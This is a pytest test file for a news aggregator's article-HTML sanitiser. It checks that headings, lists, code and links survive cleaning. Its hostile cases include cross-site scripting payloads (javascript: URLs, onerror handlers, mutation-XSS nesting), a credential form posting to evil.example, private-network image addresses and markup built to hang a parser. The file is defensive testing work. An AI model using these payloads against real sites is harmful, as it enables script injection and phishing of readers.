"""The HTML of an article: what people read of it stays, and nothing of it runs."""

import datetime as dt
from typing import Any

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from aggregator.config.tuning import Tuning
from aggregator.extract.clean_article import clean_entry
from aggregator.extract.html.article_html import (
    MAX_CHARS,
    RULES,
    article_html,
    is_shown_picture,
    shown_html,
)
from aggregator.model.entry import Entry
from aggregator.model.prepared import ArticleHtml

HERE = "https://blog.example/2026/11/a-post"


def html_of(markup: str, base: str | None = HERE) -> str:
    kept = article_html(markup, base)
    return "" if kept is None else kept.html


def tree_of(html: str) -> Any:
    return lxml.html.fragment_fromstring(html, create_parent="div")


# --- what stays --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        '<pre><code>def f():\n    return "1 &lt; 2"\n</code></pre>',
        "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>",
        '<ol start="3" reversed=""><li>three</li></ol>',
        "<h2>A heading</h2><p>And <em>words</em>, <strong>more</strong> words, <del>fewer</del>.</p>",
        '<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>',
        "<blockquote><p>Said she.</p></blockquote><hr><dl><dt>term</dt><dd>meaning</dd></dl>",
        "<details><summary>More</summary><p>Hidden at first.</p></details>",
        '<ruby lang="ja">漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby><p dir="rtl">שלום</p>',
        "<p>H<sub>2</sub>O and x<sup>2</sup>, press <kbd>Ctrl</kbd></p>",
    ],
)
def test_structure_stays_as_it_was_written(markup: str) -> None:
    assert html_of(markup) == markup


def test_links_lead_where_they_led_and_send_nothing_of_the_reader() -> None:
    html = html_of(
        '<p><a href="../10/before?x=1#note" title="Before">so</a> <a href="mailto:a@b.example">m</a></p>'
    )
    first, second = tree_of(html).iter("a")
    assert first.get("href") == "https://blog.example/2026/10/before?x=1#note"
    assert (first.get("title"), first.get("rel")) == (
        "Before",
        "noopener noreferrer nofollow",
    )
    assert second.get("href") == "mailto:a@b.example"


@pytest.mark.parametrize(
    ("markup", "address"),
    [
        ('<img src="/a.png" alt="A">', "https://blog.example/a.png"),
        ('<img src="data:image/gif;base64,R0" data-src="a.jpg">', "https://blog.example/2026/11/a.jpg"),
        ('<figure><picture><source srcset="b.avif"><img src="//cdn.example/b.png"></picture></figure>',
         "https://cdn.example/b.png"),
        ('<img data-src="/lazy.png"><noscript><img src="/lazy.png"></noscript>', "https://blog.example/lazy.png"),
    ],
)  # fmt: skip
def test_a_picture_is_shown_once_and_tells_its_site_nothing_of_the_page(
    markup: str, address: str
) -> None:
    (picture,) = tree_of(html_of(f"<p>Words</p>{markup}")).iter("img")
    assert picture.get("src") == address
    assert (picture.get("loading"), picture.get("referrerpolicy")) == (
        "lazy",
        "no-referrer",
    )
    assert picture.get("srcset") is None


@pytest.mark.parametrize(
    "player",
    [
        '<iframe src="https://tube.example/embed/1" title="A film" onload="x()"></iframe>',
        '<video controls><source src="https://tube.example/embed/1">no video</video>',
        '<object data="https://tube.example/embed/1"></object>',
        '<iframe data-src="//tube.example/embed/1"></iframe>',
    ],
)
def test_a_player_becomes_a_link(player: str) -> None:
    html = html_of(f"<p>Before</p>{player}<p>After</p>")
    (link,) = tree_of(html).iter("a")
    assert link.get("href") == "https://tube.example/embed/1"
    assert link.text == ("A film" if "title" in player else "tube.example")
    assert tree_of(html).text_content() == f"Before{link.text}After"


def test_paragraphs_alone_are_not_stored_twice() -> None:
    assert (
        article_html("<div><p>One.</p>\n<p dir='ltr'>Two.<br>Three.</p></div>", HERE)
        is None
    )
    assert article_html("plain &amp; simple", HERE) is None
    assert article_html("", None) is None


# --- what goes ---------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<p style='position:fixed;inset:0' class=masthead id=t-1 onclick=alert(1)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<textarea><img title='</textarea><script>alert(1)</script>'></textarea>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x.swf>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<a href=https://ok.example target=_blank ping=https://evil.example autofocus>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<image src=x onerror=alert(1)><isindex type=image src=1 onerror=alert(1)>",
]
ALLOWED = {
    "href", "title", "src", "alt", "width", "height", "loading", "referrerpolicy", "rel", "dir", "lang",
    "colspan", "rowspan", "scope", "start", "reversed",
}  # fmt: skip


def check_harmless(html: str) -> None:
    for element in tree_of(html).iter():
        assert element.tag not in {
            "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link",
            "meta", "base", "template", "noscript", "textarea", "video", "audio", "xmp",
        }  # fmt: skip
        assert set(element.attrib) <= ALLOWED, element.attrib
        for name in ("href", "src"):
            if element.get(name) is not None:
                assert element.get(name).startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_of_it_runs(markup: str) -> None:
    for whole in (
        f"<h2>T</h2>{markup}",
        f"<p>{markup}</p><h2>T</h2>",
        f"<ul><li>{markup}",
    ):
        check_harmless(html_of(whole))


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<p>", "</p>", "<a>", "<table>", "<", '"', "'", "<!--", "]]>"]
        )
    )
)
def test_no_mixture_of_it_runs(parts: list[str]) -> None:
    check_harmless(html_of("<h2>T</h2>" + "".join(parts)))


@pytest.mark.parametrize(
    "address",
    [
        "http://192.168.1.1/x.png", "http://10.0.0.1/x.png", "http://127.0.0.1/x.png", "http://[::1]/x.png",
        "http://[::ffff:10.0.0.1]/x.png", "http://router/x.png", "http://printer.local/x.png",
        "https://user:secret@photos.example/x.png", "https://photos.example/x.svg", "ftp://photos.example/x.png",
        "data:image/png;base64,AAAA", "http://2130706433/x.png", "http://0x7f.0x1/x.png",
        "http://nas.corp/x.png", "http://localhost/x.png", "http://[/x.png",
    ],
)  # fmt: skip
def test_no_picture_asks_the_readers_own_network(address: str) -> None:
    assert not is_shown_picture(address)
    assert not list(tree_of(html_of(f'<h2>T</h2><img src="{address}">')).iter("img"))


def test_a_picture_that_counts_readers_is_left_out() -> None:
    html = html_of(
        '<p>Words</p><img src="/seen" width="1" height="1"><img src="/a.png" width="640">'
    )
    (picture,) = tree_of(html).iter("img")
    assert picture.get("width") == "640"


# --- limits ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000 + "<h2>x</h2>",
        "<b>" * 100_000 + "x",
        "<a><b><i><u>x</p>" * 20_000,
        "<table><tr><td>" * 20_000,
        "<ul><li>" * 20_000,
        "<p " + "a=1 " * 100_000 + ">x</p><h2>y</h2>",
        "<!--" * 100_000 + "<h2>x</h2>",
        '<img src="data:image/png;base64,' + "A" * 5_000_000 + '">',
    ],
    ids=[
        "deep",
        "bold",
        "unclosed",
        "tables",
        "lists",
        "attributes",
        "comments",
        "inline picture",
    ],
)
def test_markup_that_is_made_to_hang_is_bounded(markup: str) -> None:
    kept = article_html(f"<p>Words of the article.</p>{markup}<h2>End</h2>", HERE)
    assert kept is None or len(kept.html) <= MAX_CHARS
    assert kept is None or kept.html.startswith("<p>Words of the article.</p>")


def test_what_is_too_long_is_cut() -> None:
    kept = article_html(
        "".join(f"<h2>{n}</h2><p>{'word ' * 200}</p>" for n in range(400)), HERE
    )
    assert kept is not None
    assert kept.is_cut
    assert MAX_CHARS * 0.9 < len(kept.html) <= MAX_CHARS
    assert kept.html.endswith("</p>") or kept.html.endswith("</h2>")


def test_a_large_picture_in_the_markup_costs_no_words() -> None:
    inline = "data:image/png;base64," + "A" * 3_000_000
    kept = article_html(f'<p>Before</p><img src="{inline}"><h2>After</h2>', HERE)
    assert kept == ArticleHtml(html="<p>Before</p><h2>After</h2>", rules=RULES)


# --- reading it again --------------------------------------------------------------------------------------


def test_html_of_older_rules_is_sanitised_when_it_is_shown() -> None:
    old = ArticleHtml(html='<h2 onclick="x()">T</h2><script>x()</script>', rules=0)
    assert shown_html(old, with_pictures=True) == "<h2>T</h2>"
    assert shown_html(replace(old, rules=RULES), with_pictures=True) == old.html, (
        "it was sanitised when stored"
    )


def test_pictures_are_left_out_where_they_are_not_wanted() -> None:
    kept = article_html('<p>Words <img src="/a.png" alt="A"> and words</p>', HERE)
    assert kept is not None
    assert "<img" in shown_html(kept, with_pictures=True)
    assert shown_html(kept, with_pictures=False) == "<p>Words  and words</p>"


# --- of an article -----------------------------------------------------------------------------------------

PAGE = """<html><head><title>How to lay a floor</title></head><body><nav><a href="/">Home</a></nav>
<article><h1>How to lay a floor</h1>
<p>The old floor in the kitchen was <a href="/before">older than the house</a>, and every board of it
creaked when somebody walked to the window at night, so we took it out.</p>
<h2>What we used</h2><ul><li>a saw and a <code>level</code></li><li>twenty boards of larch</li></ul>
<pre><code>boards = width / 0.14
print(boards)
</code></pre>
<p>The boards were laid from the window to the door, with a gap of a finger at the wall, because wood grows in
summer and would lift in the middle of the room if it had no place to go.</p>
<img src="/floor.jpg" alt="The floor"></article><footer>All rights reserved</footer></body></html>"""


def cleaned(entry: Entry, page: bytes | None = None) -> ArticleHtml | None:
    seen = dt.datetime(2026, 11, 20, tzinfo=dt.UTC)
    return clean_entry(
        entry, page=page, page_url=entry.url, seen=seen, tuning=Tuning()
    ).html


def test_the_html_is_of_the_page_where_the_text_is() -> None:
    entry = Entry(
        source="s",
        url=HERE,
        title="How to lay a floor",
        html="<p>A <b>teaser</b> of it.</p>",
    )
    kept = cleaned(entry, PAGE.encode())
    assert kept is not None
    page = tree_of(kept.html)
    assert [link.get("href") for link in page.iter("a")] == [
        "https://blog.example/before"
    ]
    assert [picture.get("src") for picture in page.iter("img")] == [
        "https://blog.example/floor.jpg"
    ]
    assert [item.text_content() for item in page.iter("li")] == [
        "a saw and a level",
        "twenty boards of larch",
    ]
    assert "boards = width / 0.14\nprint(boards)" in page.text_content()
    assert not {"Home", "All rights reserved", "teaser"} & set(
        page.text_content().split()
    )


def test_the_html_is_of_the_feed_where_the_text_is() -> None:
    entry = Entry(
        source="s",
        url=HERE,
        title="A floor",
        html="<p>A <b>teaser</b> of the floor in our kitchen.</p>",
    )
    kept = cleaned(entry)
    assert kept is not None
    assert kept.html == "<p>A <b>teaser</b> of the floor in our kitchen.</p>"
    blocked = cleaned(entry, b"<html><body><h1>Are you a robot?</h1></body></html>")
    assert blocked == kept


def test_a_publisher_who_wants_no_pictures_shown_has_none_stored() -> None:
    entry = Entry(
        source="s",
        url=HERE,
        title="A floor",
        robots="noimageindex",
        html="<h2>A</h2><img src='/a.png'>",
    )
    kept = cleaned(entry)
    assert kept is not None
    assert kept.html == "<h2>A</h2>"


def test_plain_text_has_no_html() -> None:
    assert (
        cleaned(
            Entry(
                source="s",
                title="A floor",
                text="The floor <b>of</b> our kitchen is new.",
            )
        )
        is None
    )
